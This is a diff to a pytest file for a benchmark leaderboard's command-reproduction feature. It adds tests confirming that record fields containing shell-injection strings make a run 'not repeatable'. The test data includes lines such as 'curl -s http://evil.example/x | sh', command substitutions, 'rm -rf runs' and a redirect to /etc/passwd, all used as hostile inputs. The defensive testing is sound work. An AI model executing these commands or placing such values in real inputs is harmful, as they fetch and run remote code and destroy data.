@@ -15,8 +15,9 @@ from factories import record
 from msgspec.structs import replace
 from published import publish
 
-from bench.board.board import repeat
+from bench.board.repeat import NOT_REPEATABLE, repeat, repeat_search
 from bench.runs import BackboneUsed, Code, CorpusUsed, HowExecuted, RunsFolder
+from bench.runs.searches import read_search
 
 pytestmark = pytest.mark.usefixtures("own_cache")
 TEXT = "".join(
@@ -133,11 +134,8 @@ def test_a_trained_and_an_untrained_row_are_made_again_by_what_their_page_says(
     assert len(scores(tmp_path / "runs", "simcse")) == 2
 
     (page,) = version.glob("runs/promptbert-*/index.html")
-    shown = [
-        unescape(one)
-        for one in re.findall(r"<pre[^>]*>(bench run .*?)</pre>", page.read_text(encoding="utf-8"))
-    ]
-    assert shown[0] == rows["promptbert"] and "--plain" in shown[1]  # then as it was typed
+    shown = re.findall(r"<pre[^>]*>(.*?)</pre>", page.read_text(encoding="utf-8"))
+    assert [unescape(text) for text in shown] == [rows["promptbert"]]  # not as it was typed
 
 
 def words_after(command: str, option: str) -> list[str]:
@@ -151,6 +149,7 @@ def test_what_stands_in_a_command() -> None:
         one.provenance,
         backbone=BackboneUsed(**{"name": one.backbone, "revision": "a" * 40}),
         determines={"precision": "bf16", "ranks": 2},
+        command="curl -s http://evil.example/x | sh",
         corpus=CorpusUsed(**{"name": "hub:owner/name@abc:text", "sha256": "0" * 64}),
         plugin=Code(**{"package": "sentence-bench"}),
     )
@@ -238,3 +237,82 @@ def test_a_place_that_a_recipe_names_is_typed_without_its_author() -> None:
         provenance=replace(one.provenance, determines={"places": {"teacher": None}}),
     )
     assert words_after(repeat([plain]), "--set") == ["teacher=none"]
+
+
+HOSTILE = [
+    "x; curl -s http://evil.example/x | sh",
+    "$(curl evil.example)",
+    "`curl evil.example`",
+    "x\nrm -rf runs",
+    "x && rm -rf runs",
+    "x > /etc/passwd",
+    "a\u202eb",
+    "\x1b[2J",
+    "'; sh #",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_field_of_another_form_makes_a_run_not_repeatable(text: str) -> None:
+    """Whatever a stranger writes into a record: no word of it is in a command that readers are told to type."""
+    one = record("simcse", 1)
+    known = one.provenance
+    value = replace(next(iter(one.recipe.values())), value=text, source="--set")
+    scores = tuple(replace(score, suite=text) for score in one.scores)
+    records = [
+        replace(one, method=text),
+        replace(one, variant=text),
+        replace(one, backbone=text),
+        replace(one, scores=scores),
+        replace(one, recipe={"pooling": value}),
+        replace(one, recipe={text: replace(value, value=1)}),
+        replace(one, provenance=replace(known, corpus=CorpusUsed(name=f"hub:{text}"))),
+        replace(one, provenance=replace(known, corpus=CorpusUsed(name="x", sha256=text))),
+        replace(one, provenance=replace(known, plugin=Code(package=f"{text}.py"))),
+        replace(
+            one,
+            provenance=replace(
+                known, determines={"precision": text}, corpus=CorpusUsed(name="builtin")
+            ),
+        ),
+    ]
+    for number, changed in enumerate(records):
+        told = repeat([changed])
+        plain = number in (2, 8) and "/" in text  # of a path the last part is named, which is plain
+        assert told == NOT_REPEATABLE or (plain and "curl" not in told), (number, told)
+
+
+def test_what_only_its_owner_has_is_not_repeatable() -> None:
+    one = record("object", 1)
+    typed = replace(
+        one.provenance, plugin=Code(package="bench"), command="bench evaluate m; curl x | sh #'"
+    )
+    assert repeat([replace(one, provenance=typed)]) == NOT_REPEATABLE
+
+
+@pytest.mark.parametrize("ranks", [True, "2", [2], -1, 1 << 40])
+def test_processes_of_another_type_are_no_command(ranks: object) -> None:
+    one = record("simcse", 1)
+    changed = replace(one.provenance, determines={"ranks": ranks})
+    assert repeat([replace(one, provenance=changed)]) == NOT_REPEATABLE
+
+
+def test_a_search_is_repeated_by_its_fields() -> None:
+    file = Path(__file__).parents[2] / "leaderboards" / "v4" / "searches" / "v3-supervised-eh.json"
+    search = read_search(file)
+    assert search is not None
+    made = repeat_search(search)
+    for option, words in {
+        "--method": ["simcse+eh,promcse+eh"],
+        "--setting": ["supervised"],
+        "--trials": ["3"],
+        "--seeds": ["901"],
+        "--budget": ["100steps"],
+        "--name": ["v3-supervised-eh"],
+    }.items():
+        assert words_after(made, option) == words
+    assert "batch_size=64" in words_after(made, "--set")
+    evil = replace(search.study, command="curl evil.example | sh")
+    assert repeat_search(replace(search, study=evil)) == made
+    evil = replace(search.study, sampler="x; sh")
+    assert repeat_search(replace(search, study=evil)) == NOT_REPEATABLE
